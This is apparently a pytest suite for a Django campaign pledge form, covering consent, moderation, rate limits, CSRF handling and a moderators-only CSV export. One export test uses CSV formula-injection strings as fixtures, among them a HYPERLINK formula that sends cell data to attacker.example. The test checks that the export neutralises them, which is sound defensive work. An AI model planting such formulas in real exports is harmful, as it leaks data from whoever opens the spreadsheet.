"""The campaign pledge: signing, consent, moderation, counts, duplicates, rate limit and
the moderators-only CSV export."""

import csv
import io
import re
import uuid

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.urls import reverse

from campaigns.models import PledgeSignature
from campaigns.pledge import RATE_LIMIT
from tests.campaigns.factories import CampaignPageFactory, PledgeSignatureFactory
from tests.public_forms import browser, fetched_tokens, hidden_values

pytestmark = pytest.mark.django_db


@pytest.fixture
def campaign(campaign_index):
    return CampaignPageFactory(
        parent=campaign_index,
        slug="talk",
        pledge_statement="I pledge to talk openly about mental health.",
    )


def _sign(client, campaign, headers=None, **fields):
    data = {"token": str(uuid.uuid4()), "kind": "individual", "name": "", "country": "FR"}
    data.update(fields)
    return client.post("/en/campaigns/talk/pledge/", data, **(headers or {}))


def test_page_shows_the_pledge_form(client, campaign):
    html = client.get("/en/campaigns/talk/").content.decode()
    assert "I pledge to talk openly about mental health." in html
    assert 'action="/en/campaigns/talk/pledge/#pledge"' in html
    assert 'name="token"' in html
    assert "0 signatures so far" in html


def test_anonymous_signature_waits_for_moderation(client, campaign):
    response = _sign(client, campaign)
    assert response.status_code == 302
    assert response["Location"] == "/en/campaigns/talk/?pledged=1#pledge"
    signature = PledgeSignature.objects.get()
    assert signature.status == "pending"
    assert signature.public_name == "Anonymous"
    html = client.get(response["Location"]).content.decode()
    assert "Thank you for signing" in html
    assert "0 signatures so far" in html  # not counted before moderation


def test_double_click_makes_one_signature(client, campaign):
    token = str(uuid.uuid4())
    first = _sign(client, campaign, token=token, name="Ana")
    second = _sign(client, campaign, token=token, name="Ana")
    assert first.status_code == second.status_code == 302
    assert PledgeSignature.objects.count() == 1


def test_email_needs_its_own_consent(client, campaign):
    response = _sign(client, campaign, email="ana@example.org")
    assert response.status_code == 400
    assert "Tick the box to let us contact you" in response.content.decode()
    assert not PledgeSignature.objects.exists()
    _sign(client, campaign, email="ana@example.org", email_consent="on")
    assert PledgeSignature.objects.get().email == "ana@example.org"


def test_organisation_signs_with_a_commitment(client, campaign):
    response = _sign(client, campaign, kind="organisation", name="City of Lyon")
    assert response.status_code == 400
    assert "what your organisation commits to" in response.content.decode()
    _sign(
        client,
        campaign,
        kind="organisation",
        name="City of Lyon",
        organisation_website="https://lyon.example.org",
        commitment="We adopt the prevention concordat for all our staff.",
    )
    signature = PledgeSignature.objects.get()
    assert signature.is_organisation
    signature.status = "approved"
    signature.save()
    html = client.get("/en/campaigns/talk/").content.decode()
    assert "City of Lyon" in html
    assert "We adopt the prevention concordat" in html


def test_counts_and_list_show_approved_signatures_only_and_never_emails(client, campaign):
    PledgeSignatureFactory(
        campaign=campaign, name="Ana", country="FR", email="ana@x.org", email_consent=True
    )
    PledgeSignatureFactory(campaign=campaign, name="Olena", country="UA")
    PledgeSignatureFactory(campaign=campaign, name="", country="FR")
    PledgeSignatureFactory(campaign=campaign, name="Spammer", status="pending")
    PledgeSignatureFactory(campaign=campaign, name="Troll", status="rejected")
    html = client.get("/en/campaigns/talk/").content.decode()
    assert "3 signatures so far" in html
    assert "France: 2" in html and "Ukraine: 1" in html
    assert "Ana" in html and "Olena" in html and "Anonymous" in html
    assert "Spammer" not in html and "Troll" not in html
    assert "ana@x.org" not in html


def test_translations_share_one_pledge(client, translated_home, locales):
    from tests.campaigns.factories import CampaignIndexPageFactory

    index = CampaignIndexPageFactory(parent=translated_home["en"])
    campaign = CampaignPageFactory(parent=index, slug="talk", pledge_statement="I pledge.")
    index.copy_for_translation(locales["fr"]).save_revision().publish()
    french = campaign.copy_for_translation(locales["fr"])
    french.save_revision().publish()
    PledgeSignatureFactory(campaign=campaign, country="FR")
    PledgeSignatureFactory(campaign=french.specific, country="FR")
    html = client.get("/fr/campaigns/talk/").content.decode()
    assert "2 " in html and "France: 2" in html


def test_signing_is_rate_limited(client, campaign):
    for _attempt in range(RATE_LIMIT):
        assert _sign(client, campaign).status_code == 302
    response = _sign(client, campaign)
    assert response.status_code == 429
    assert "Too many signatures" in response.content.decode()
    assert PledgeSignature.objects.count() == RATE_LIMIT


def test_behind_a_trusted_proxy_each_reader_has_their_own_allowance(client, campaign, settings):
    """Every request comes from the proxy's address; the header it sets tells readers apart."""
    settings.OPENLY_CLIENT_IP_HEADER = "HTTP_X_REAL_IP"

    def via_proxy(reader):
        return {"REMOTE_ADDR": "10.0.0.2", "HTTP_X_REAL_IP": reader}

    for _attempt in range(RATE_LIMIT):
        assert _sign(client, campaign, headers=via_proxy("203.0.113.1")).status_code == 302
    assert _sign(client, campaign, headers=via_proxy("203.0.113.1")).status_code == 429
    assert _sign(client, campaign, headers=via_proxy("203.0.113.2")).status_code == 302
    assert PledgeSignature.objects.count() == RATE_LIMIT + 1


def test_without_a_trusted_proxy_a_forged_header_changes_nothing(client, campaign, settings):
    settings.OPENLY_CLIENT_IP_HEADER = ""
    for attempt in range(RATE_LIMIT):
        forged = {"HTTP_X_REAL_IP": f"203.0.113.{attempt}"}
        assert _sign(client, campaign, headers=forged).status_code == 302
    refused = _sign(client, campaign, headers={"HTTP_X_REAL_IP": "198.51.100.9"})
    assert refused.status_code == 429
    assert PledgeSignature.objects.count() == RATE_LIMIT


def test_closed_or_missing_pledge_accepts_nothing(client, campaign_index):
    CampaignPageFactory(parent=campaign_index, slug="talk", pledge_statement="")
    response = _sign(client, None)
    assert response.status_code == 302
    assert not PledgeSignature.objects.exists()


def test_get_on_the_pledge_address_goes_back_to_the_page(client, campaign):
    response = client.get("/en/campaigns/talk/pledge/")
    assert response.status_code == 302
    assert response["Location"] == "/en/campaigns/talk/#pledge"


def test_moderators_export_signatures_as_csv(client, django_user_model, campaign):
    from home.cocreation.roles import MODERATORS, PARTNER_EDITORS, setup_roles

    setup_roles()
    PledgeSignatureFactory(campaign=campaign, name="Ana", email="ana@x.org", email_consent=True)
    url = reverse("wagtailsnippets_campaigns_pledgesignature:list") + "?export=csv"

    editor = django_user_model.objects.create_user("editor", password="pw")
    editor.groups.add(Group.objects.get(name=PARTNER_EDITORS))
    client.force_login(editor)
    denied = client.get(url)
    assert denied.status_code in (302, 403)
    assert b"ana@x.org" not in denied.content

    moderator = django_user_model.objects.create_user("moderator", password="pw")
    moderator.groups.add(Group.objects.get(name=MODERATORS))
    client.force_login(moderator)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content).decode()
    assert "ana@x.org" in content


def test_the_signatures_export_neutralises_formulas(client, campaign):
    """Names and commitments come from the public form; in the moderators' spreadsheet they
    must stay text, never a formula."""
    from home.cocreation.roles import MODERATORS, setup_roles

    setup_roles()
    hostile = {
        '=HYPERLINK("https://attacker.example/?d="&F2,"Open")': "@SUM(A1:A9)",
        "+1": "-1",
        "\t=1+1": "\r=1+1",
    }
    for name, commitment in hostile.items():
        PledgeSignatureFactory(
            campaign=campaign, kind="organisation", name=name, commitment=commitment
        )
    PledgeSignatureFactory(campaign=campaign, name="Ana", commitment="Listen first.")
    moderator = get_user_model().objects.create_user("moderator", password="pw")
    moderator.groups.add(Group.objects.get(name=MODERATORS))
    client.force_login(moderator)
    url = reverse("wagtailsnippets_campaigns_pledgesignature:list") + "?export=csv"
    content = b"".join(client.get(url).streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(content)))
    cells = {(row["Name"], row["Commitment"]) for row in rows}
    assert cells == {
        *{("'" + name, "'" + commitment) for name, commitment in hostile.items()},
        ("Ana", "Listen first."),
    }


@pytest.mark.parametrize(
    "fields",
    [
        {"token": "not-a-uuid"},
        {"country": "XX"},
        {"kind": "robot"},
        {"name": "x" * 5000},
        {"email": "not-an-email", "email_consent": "on"},
        {"token": ""},
    ],
)
def test_bad_pledge_input_is_refused_politely(client, campaign, fields):
    response = _sign(client, campaign, **fields)
    assert response.status_code == 400
    assert 'id="pledge"' in response.content.decode()
    assert not PledgeSignature.objects.exists()


# -- the pledge on a page every reader shares (home.public_forms) ---------------------------

PLEDGE_URL = "/en/campaigns/talk/pledge/"
ORGANISATION = {
    "kind": "organisation",
    "name": "Open Minds Lisboa",
    "country": "PT",
    "commitment": "We will train every manager in mental health first aid.",
    "organisation_website": "https://openminds.example.org",
    "email": "contact@openminds.example.org",
    "email_consent": "on",
}


def test_the_page_carries_no_token_and_sets_no_cookie(campaign):
    client = browser()
    response = client.get("/en/campaigns/talk/")
    assert not response.cookies
    html = response.content.decode()
    assert hidden_values(html, 'class="pledge__form"') == {"csrfmiddlewaretoken": ""}
    assert 'data-form-tokens="/forms/token/?form=pledge"' in html


def test_a_pledge_with_the_fetched_tokens_is_signed(campaign):
    client = browser()
    client.get("/en/campaigns/talk/")
    response = client.post(PLEDGE_URL, {**ORGANISATION, **fetched_tokens(client, "pledge")})
    assert response.status_code == 302
    assert response["Location"] == "/en/campaigns/talk/?pledged=1#pledge"
    assert PledgeSignature.objects.get().name == "Open Minds Lisboa"


def test_a_pledge_without_a_token_comes_back_with_the_answers_then_goes_through(campaign):
    client = browser()
    client.get("/en/campaigns/talk/")
    response = client.post(PLEDGE_URL, {**ORGANISATION, "csrfmiddlewaretoken": "", "token": ""})
    assert response.status_code == 403
    assert {"private", "no-store"} <= {
        part.strip() for part in response["Cache-Control"].split(",")
    }
    assert not PledgeSignature.objects.exists()
    html = response.content.decode()
    assert "For your security, please check your answers and send the form again." in html
    assert 'value="Open Minds Lisboa"' in html
    assert "We will train every manager in mental health first aid." in html
    assert 'value="contact@openminds.example.org"' in html
    assert re.search(r'<input type="radio" name="kind" value="organisation"[^>]* checked', html)
    assert re.search(r'<option value="PT" selected>', html)
    assert re.search(r'name="email_consent"[^>]* checked', html)
    # The form shown again is this reader's: it carries a token and a fresh form key.
    again = hidden_values(html, 'class="pledge__form"')
    assert again["csrfmiddlewaretoken"] and again["token"]
    assert "csrftoken" in response.cookies
    response = client.post(PLEDGE_URL, {**ORGANISATION, **again})
    assert response.status_code == 302
    signature = PledgeSignature.objects.get()
    assert signature.commitment == ORGANISATION["commitment"]
    assert signature.email == ORGANISATION["email"]
    # Sent a third time (Back, then send): still one signature.
    assert client.post(PLEDGE_URL, {**ORGANISATION, **again}).status_code == 302
    assert PledgeSignature.objects.count() == 1


def test_a_stale_token_also_brings_the_form_back(campaign):
    client = browser()
    client.cookies["csrftoken"] = "b" * 32
    data = {**ORGANISATION, "csrfmiddlewaretoken": "c" * 64, "token": str(uuid.uuid4())}
    response = client.post(PLEDGE_URL, data)
    assert response.status_code == 403
    assert "please check your answers" in response.content.decode()
    assert not PledgeSignature.objects.exists()


def test_a_pledge_from_another_site_gets_the_plain_refusal(campaign):
    client = browser()
    response = client.post(PLEDGE_URL, ORGANISATION, HTTP_ORIGIN="https://elsewhere.example")
    assert response.status_code == 403
    html = response.content.decode()
    assert "You cannot open this page" in html
    assert "Open Minds Lisboa" not in html
    assert not PledgeSignature.objects.exists()


def test_a_closed_pledge_gets_the_plain_refusal(campaign):
    campaign.pledge_open = False
    campaign.save_revision().publish()
    response = browser().post(PLEDGE_URL, ORGANISATION)
    assert response.status_code == 403
    assert "You cannot open this page" in response.content.decode()
    assert not PledgeSignature.objects.exists()


def test_a_form_sent_without_its_form_key_asks_again_with_a_fresh_one(client, campaign):
    response = client.post(PLEDGE_URL, {**ORGANISATION, "token": ""})
    assert response.status_code == 400
    html = response.content.decode()
    assert "please check your answers and send the form again" in html
    assert hidden_values(html, 'class="pledge__form"')["token"]
    assert not PledgeSignature.objects.exists()


def test_the_thank_you_variant_is_private(client, campaign):
    response = client.get("/en/campaigns/talk/?pledged=1")
    assert "private" in response["Cache-Control"] and "no-store" in response["Cache-Control"]
    assert "public" in client.get("/en/campaigns/talk/")["Cache-Control"]
